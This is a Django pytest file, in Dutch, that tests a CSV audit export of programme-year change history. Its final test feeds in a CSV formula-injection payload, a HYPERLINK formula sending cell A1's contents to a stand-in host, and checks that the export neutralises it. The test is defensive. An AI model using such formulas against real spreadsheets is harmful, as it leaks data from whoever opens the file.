"""The audit export: every recorded change of a programme year as CSV, reconciled with the raw
history rows; the public's export holds nothing of a concept."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from historie.export import KOLOMMEN
from programma import services
from programma.models import (
    Bijdrage,
    Jaarprogramma,
    ProgrammaOpgave,
    ProgrammaVersie,
    StuurgroepLid,
)
from raden.models import Besluit, Stem, Stemming
from tests.factories import inhoud_van

pytestmark = pytest.mark.django_db

URL = "/programma/{}/geschiedenis.csv"
CONCEPTINHOUD = {
    "programma.programmaopgave",
    "programma.stuurgroeplid",
    "programma.externeregeling",
    "programma.synergie",
    "programma.bijdrage",
    "programma.deelnemer",
}


def _user(naam):
    return get_user_model().objects.get(username=naam)


def _csv(jaar: int, wie: str | None = None) -> list[dict]:
    c = Client()
    if wie:
        c.force_login(_user(wie))
    response = c.get(URL.format(jaar))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "geschiedenis-programma-" in response["Content-Disposition"]
    tekst = b"".join(response.streaming_content).decode("utf-8")
    assert tekst.startswith("\ufeff")
    regels = list(csv.reader(io.StringIO(tekst[1:]), delimiter=";"))
    assert regels[0] == KOLOMMEN
    return [dict(zip(KOLOMMEN, r, strict=True)) for r in regels[1:]]


def _ids(rijen, tabel) -> set[int]:
    return {int(r["historie_id"]) for r in rijen if r["tabel"] == tabel}


def test_opsteller_krijgt_elke_vastgelegde_rij_van_het_jaar(demo):
    """Every record of the year's history tables is in the drafter's export (a save that
    changed no shown field and gave no reason excepted), and nothing of another year; of the
    votes, the confirmed ones (a running vote is its griffier's)."""
    rijen = _csv(2027, "regiobestuur")
    versies = ProgrammaVersie.objects.filter(jaarprogramma__jaar=2027)
    po_ids = set(ProgrammaOpgave.history.filter(versie__in=versies).values_list("id", flat=True))
    # a running vote is the griffier's until confirmed; the regiobestuur reads confirmed ones
    stemmingen = set(
        Stemming.objects.filter(versie__in=versies, bevestigd_op__isnull=False).values_list(
            "id", flat=True
        )
    )
    verwacht = {
        "programma.jaarprogramma": Jaarprogramma.history.filter(jaar=2027),
        "programma.programmaversie": ProgrammaVersie.history.filter(jaarprogramma__jaar=2027),
        "programma.programmaopgave": ProgrammaOpgave.history.filter(id__in=po_ids),
        "programma.stuurgroeplid": StuurgroepLid.history.filter(programma_opgave_id__in=po_ids),
        "programma.bijdrage": Bijdrage.history.filter(programma_opgave_id__in=po_ids),
        "raden.stemming": Stemming.history.filter(id__in=stemmingen),
        "raden.stem": Stem.history.filter(stemming_id__in=stemmingen),
        "raden.besluit": Besluit.history.filter(programma_opgave_id__in=po_ids),
    }
    for tabel, qs in verwacht.items():
        nieuw_of_weg = set(qs.exclude(history_type="~").values_list("history_id", flat=True))
        alles = set(qs.values_list("history_id", flat=True))
        gevonden = _ids(rijen, tabel)
        assert nieuw_of_weg <= gevonden, tabel
        assert gevonden <= alles, tabel
    assert len(_ids(rijen, "raden.stem")) == Stem.history.filter(stemming_id__in=stemmingen).count()


def test_een_wijziging_cel_voor_cel(demo):
    po = (
        ProgrammaOpgave.objects.filter(
            opgave__slug="energietransitie", versie__jaarprogramma__jaar=2028
        )
        .select_related("versie")
        .get()
    )
    oud = po.budget
    services.werk_opgave_bij(
        programma_opgave=po,
        verwacht_wijzigingsnummer=po.wijzigingsnummer,
        acting_user=_user("programmabureau"),
        **inhoud_van(po, budget=oud + 99),
    )
    record = ProgrammaOpgave.history.filter(id=po.pk).first()
    rijen = [r for r in _csv(2028, "regiobestuur") if r["historie_id"] == str(record.history_id)]
    assert len(rijen) == 1  # one field changed, one row
    rij = rijen[0]
    assert rij["tabel"] == "programma.programmaopgave"
    assert rij["veld"] == "budget (euro)"
    assert (rij["oud"], rij["nieuw"]) == (str(oud), str(oud + 99))
    assert rij["wie"] == "Demo Programmabureau" and rij["rol_nu"] == "programmabureau"
    assert rij["soort"] == "gewijzigd"
    assert rij["wanneer"].startswith(record.history_date.astimezone().date().isoformat()[:4])


def test_het_publiek_krijgt_geen_concept(demo):
    for wie in (None, "raadslid-arnhem"):
        assert Client().get(URL.format(2028)).status_code == 404
        rijen = _csv(2027, wie)
        assert not {r["tabel"] for r in rijen} & CONCEPTINHOUD
        assert any(r["tabel"] == "publicatie" for r in rijen)
        bevestigd = set(
            Stemming.objects.filter(
                versie__jaarprogramma__jaar=2027, bevestigd_op__isnull=False
            ).values_list("id", flat=True)
        )
        publiek = set(
            Stemming.history.filter(id__in=bevestigd).values_list("history_id", flat=True)
        )
        assert _ids(rijen, "raden.stemming") == publiek
        statussen = {r["nieuw"] for r in rijen if r["tabel"] == "programma.jaarprogramma"}
        assert "concept" not in statussen


def test_vrije_tekst_wordt_geen_formule(demo):
    """A raadslid's question that looks like a formula reaches the accountants' file as text."""
    from raden import services as raden

    po = (
        ProgrammaOpgave.objects.filter(
            opgave__slug="energietransitie", versie__jaarprogramma__jaar=2027
        )
        .order_by("-versie__nummer")
        .first()
    )
    formule = '=HYPERLINK("http://x/?"&A1;"klik")'
    vraag = raden.stel_vraag(
        programma_opgave=po, tekst=formule, acting_user=_user("raadslid-arnhem")
    )
    raden.beantwoord_vraag(vraag=vraag, antwoord="@nee", acting_user=_user("programmabureau"))
    rijen = _csv(2027)
    cellen = {r["nieuw"] for r in rijen if r["tabel"] == "raden.vraag"}
    assert "'" + formule in cellen and "'@nee" in cellen
    assert not any(c.startswith(("=", "@")) for r in rijen for c in r.values())
